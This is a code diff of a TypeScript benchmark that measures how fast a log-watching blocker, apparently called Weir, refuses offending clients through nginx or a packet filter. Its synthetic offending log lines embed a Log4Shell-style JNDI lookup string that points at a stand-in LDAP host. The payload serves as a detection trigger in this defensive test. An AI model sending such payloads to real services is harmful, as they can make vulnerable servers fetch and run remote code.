@@ -1,19 +1,30 @@
 /**
- * From the append of an offending line until every nginx worker answers 403 to its sender, under a background load of
- * ordinary lines. Nothing is simulated: a real log, nats-server, the four services and nginx.
+ * From the append of an offending line until its sender is refused, under a background load of ordinary lines. Nothing is
+ * simulated: a real log, nats-server, the four services, and nginx or the packet filter of a kernel.
  */
 import { appendFileSync, mkdtempSync, writeFileSync } from 'node:fs';
-import { Agent, request } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Clock } from '#libs/clock/clock.ts';
 import { SystemClock } from '#libs/clock/system.ts';
+import type { Decision } from '#libs/domain/decision.ts';
 import { decisionFromMessage } from '#libs/wire/decision.ts';
-import { nginxPart } from '#services/standalone/parts/parts.ts';
-import { freePort } from '#services/standalone/stack/ports.ts';
-import type { Stack } from '#services/standalone/stack/stack.ts';
+import type { Stack, StackOptions } from '#services/standalone/stack/stack.ts';
 import { percentile } from '#services/standalone/summary.ts';
-import { withStack } from './stack.ts';
+import { cpuSeconds, withStack } from './stack.ts';
+
+/** Where clients are refused. */
+export interface Place {
+  /** For the stack, when nginx is in it. */
+  readonly nginx?: StackOptions['nginx'];
+  /** Of the run: each in a network of its own, as where many are blocked, their neighbours are before they do anything. */
+  addressOf(i: number): string;
+  /** Called when the stack is up. @param folder for whatever is needed on the way */
+  begin(stack: Stack, folder: string): Promise<void>;
+  /** Has a client with this address knock until it is refused. @returns when that was, Unix ms */
+  refusal(address: string, offend: () => void): Promise<{ writtenMs: number; refusedMs: number }>;
+  end(): Promise<void>;
+}
 
 export interface LatencyOptions {
   /** Ordinary lines a second beside the measured ones. */
@@ -21,6 +32,8 @@ export interface LatencyOptions {
   readonly runs: number;
   /** Offending lines in each run. */
   readonly samples: number;
+  /** Another one for each run. */
+  readonly openPlace: (clock: Clock, run: number) => Promise<Place>;
 }
 
 interface Quantiles {
@@ -31,16 +44,12 @@ interface Quantiles {
 export interface LatencyResult {
   readonly latency_ms: Quantiles & { readonly max: number; readonly n: number };
   readonly stages_ms: Record<string, Quantiles>;
+  /** Of the processes of the stack without nginx, and of this one, which makes the lines. */
+  readonly cpu_cores: Readonly<Record<string, number>>;
 }
 
-const WORKERS = 2;
 const LOAD_EVERY_MS = 10;
-const POLL_MS = 0.5;
-const GIVE_UP_MS = 10_000;
 const PAUSE_MS = 5;
-/** Connections that are opened from one address at most to reach every worker. */
-const CONNECTIONS_MAX = 64;
-const SITE = 'add_header X-Worker $pid always;\nlocation / { return 200 "ok\\n"; }';
 
 interface Sample {
   readonly address: string;
@@ -48,43 +57,11 @@ interface Sample {
   readonly refusedMs: number;
 }
 
-export async function benchLatency({ rate, runs, samples }: LatencyOptions): Promise<LatencyResult> {
-  const clock = new SystemClock();
+export async function benchLatency(options: LatencyOptions): Promise<LatencyResult> {
   const all: Sample[] = [];
   const stages: Record<string, number[]> = {};
-  for (let run = 0; run < runs; run++) {
-    const folder = mkdtempSync(join(tmpdir(), 'weir-bench-'));
-    const log = join(folder, 'source.log');
-    const port = await freePort();
-    writeFileSync(log, '');
-    await withStack(
-      {
-        clock,
-        nginx: { part: await nginxPart(), port, workers: WORKERS, site: SITE },
-        config: {
-          enforce: true,
-          loopback: true,
-          logLevel: 'warn',
-          source: { name: 'bench', type: 'file', path: log },
-        },
-      },
-      async (stack) => {
-        const stopping = new AbortController();
-        const load = background(log, rate, clock, stopping.signal);
-        await clock.sleep(1000);
-        const measured: Sample[] = [];
-        for (let i = 0; i < samples; i++) {
-          measured.push(await measureOne(addressOf(run, i), log, port, clock));
-          await clock.sleep(PAUSE_MS);
-        }
-        stopping.abort();
-        await load;
-        all.push(...measured);
-        await addStages(stack, measured, stages);
-      },
-      folder,
-    );
-  }
+  const cores: Record<string, number[]> = {};
+  for (let run = 0; run < options.runs; run++) all.push(...(await benchRun(options, run, stages, cores)));
   const latencies = all.map(({ writtenMs, refusedMs }) => refusedMs - writtenMs);
   return {
     latency_ms: {
@@ -99,54 +76,65 @@ export async function benchLatency({ rate, runs, samples }: LatencyOptions): Pro
         { p50: percentile(ms, 0.5), p99: percentile(ms, 0.99) },
       ]),
     ),
+    cpu_cores: Object.fromEntries(Object.entries(cores).map(([name, each]) => [name, percentile(each, 0.5)])),
   };
 }
 
-/** Of networks of their own: where many are blocked, their neighbours are before they do anything. */
-function addressOf(run: number, i: number): string {
-  return `127.${50 + run}.${i & 255}.${1 + (i >>> 8)}`;
+/** Begins to measure. Returns how many cores each process has used since. */
+function cpuMeter(stack: Stack, clock: Clock): () => Record<string, number> {
+  const read = (): Record<string, number> => {
+    const { user, system } = process.cpuUsage();
+    return { ...cpuSeconds(stack), load: (user + system) / 1e6 };
+  };
+  const before = read();
+  const startMs = clock.elapsed();
+  return () => {
+    const seconds = (clock.elapsed() - startMs) / 1000;
+    return Object.fromEntries(
+      Object.entries(read()).map(([name, used]) => [name, (used - before[name]) / seconds]),
+    );
+  };
 }
 
-/** Appends an offending line and asks every worker until all refuse. */
-async function measureOne(address: string, log: string, port: number, clock: Clock): Promise<Sample> {
-  const connections = await connectionsToAll(address, port);
-  const writtenMs = clock.now();
-  appendFileSync(log, lineOf(clock.now(), address, '/', '${jndi:ldap://198.51.100.7/a}'));
-  for (const connection of connections) {
-    while ((await ask(connection, address, port)).status !== 403) {
-      if (clock.now() - writtenMs > GIVE_UP_MS)
-        throw new Error(`${address} was not refused within ${GIVE_UP_MS} ms`);
-      await clock.sleep(POLL_MS);
+async function benchRun(
+  { rate, samples, openPlace }: LatencyOptions,
+  run: number,
+  stages: Record<string, number[]>,
+  cores: Record<string, number[]>,
+): Promise<Sample[]> {
+  const clock = new SystemClock();
+  const folder = mkdtempSync(join(tmpdir(), 'weir-bench-'));
+  const log = join(folder, 'source.log');
+  writeFileSync(log, '');
+  const place = await openPlace(clock, run);
+  const { nginx } = place;
+  const source = { name: 'bench', type: 'file', path: log };
+  const config = { enforce: nginx !== undefined, loopback: true, logLevel: 'warn', source };
+  const measured: Sample[] = [];
+  const measure = async (stack: Stack) => {
+    await place.begin(stack, folder);
+    const stopping = new AbortController();
+    const load = background(log, rate, clock, stopping.signal);
+    await clock.sleep(1000);
+    const used = cpuMeter(stack, clock);
+    for (let i = 0; i < samples; i++) {
+      const address = place.addressOf(i);
+      const offend = () =>
+        appendFileSync(log, lineOf(clock.now(), address, '/', '${jndi:ldap://198.51.100.7/a}'));
+      measured.push({ address, ...(await place.refusal(address, offend)) });
+      await clock.sleep(PAUSE_MS);
     }
-  }
-  const refusedMs = clock.now();
-  for (const connection of connections) connection.destroy();
-  return { address, writtenMs, refusedMs };
-}
-
-/** One kept-alive connection to each worker. */
-async function connectionsToAll(address: string, port: number): Promise<Agent[]> {
-  const byWorker = new Map<string, Agent>();
-  for (let i = 0; i < CONNECTIONS_MAX && byWorker.size < WORKERS; i++) {
-    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
-    const { worker } = await ask(agent, address, port);
-    if (byWorker.has(worker)) agent.destroy();
-    else byWorker.set(worker, agent);
-  }
-  return [...byWorker.values()];
-}
-
-function ask(agent: Agent, address: string, port: number): Promise<{ status: number; worker: string }> {
-  return new Promise((resolve, reject) => {
-    const asking = request({ host: '127.0.0.1', port, localAddress: address, agent }, (response) => {
-      response.resume();
-      response.once('end', () => {
-        resolve({ status: response.statusCode ?? 0, worker: String(response.headers['x-worker'] ?? '') });
-      });
-    });
-    asking.once('error', reject);
-    asking.end();
-  });
+    for (const [name, each] of Object.entries(used())) {
+      cores[name] ??= [];
+      cores[name].push(each);
+    }
+    stopping.abort();
+    await load;
+    await addStages(stack, measured, stages);
+    await place.end();
+  };
+  await withStack({ clock, config, ...(nginx ? { nginx } : {}) }, measure, folder);
+  return measured;
 }
 
 /** Ordinary lines at a steady rate, from addresses that nobody measures. */
@@ -164,24 +152,10 @@ async function background(log: string, rate: number, clock: Clock, signal: Abort
   }
 }
 
-/** A line of Weir's own log format. */
+/** A line of Weir's own log format. No text needs to be escaped. */
 function lineOf(nowMs: number, address: string, uri: string, agent: string): string {
-  const event = {
-    v: 1,
-    t: Number((nowMs / 1000).toFixed(3)),
-    ip: address,
-    h: 'shop.example',
-    m: 'GET',
-    u: uri,
-    p: 'HTTP/1.1',
-    s: 200,
-    b: 612,
-    rt: 0.002,
-    ua: agent,
-    rf: '',
-    weir: '',
-  };
-  return `${JSON.stringify(event)}\n`;
+  const time = (nowMs / 1000).toFixed(3);
+  return `{"v":1,"t":${time},"ip":"${address}","h":"shop.example","m":"GET","u":"${uri}","p":"HTTP/1.1","s":200,"b":612,"rt":0.002,"ua":"${agent}","rf":"","weir":""}\n`;
 }
 
 /** What the ledger knows about when each sample passed which stage. */
@@ -190,15 +164,15 @@ async function addStages(
   samples: readonly Sample[],
   into: Record<string, number[]>,
 ): Promise<void> {
+  const appliedMs = new Map<string | null | undefined, number>();
+  const byAddress = new Map<string, Decision>();
   await stack.until('the last reports', async () => {
-    const { applied } = await stack.controlPlane.list({ limit: 100_000 });
-    return applied.length >= samples.length;
+    for await (const { applied, decisions } of stack.controlPlane.export({})) {
+      for (const { id, appliedMs: at } of applied) appliedMs.set(id, at ?? 0);
+      for (const decision of decisions.map(decisionFromMessage)) byAddress.set(decision.value, decision);
+    }
+    return appliedMs.size >= samples.length;
   });
-  const list = await stack.controlPlane.list({ limit: 100_000 });
-  const appliedMs = new Map(list.applied.map(({ id, appliedMs: at }) => [id, at ?? 0]));
-  const byAddress = new Map(
-    list.decisions.map(decisionFromMessage).map((decision) => [decision.value, decision]),
-  );
   for (const { address, writtenMs, refusedMs } of samples) {
     const decision = byAddress.get(address);
     if (!decision) continue;
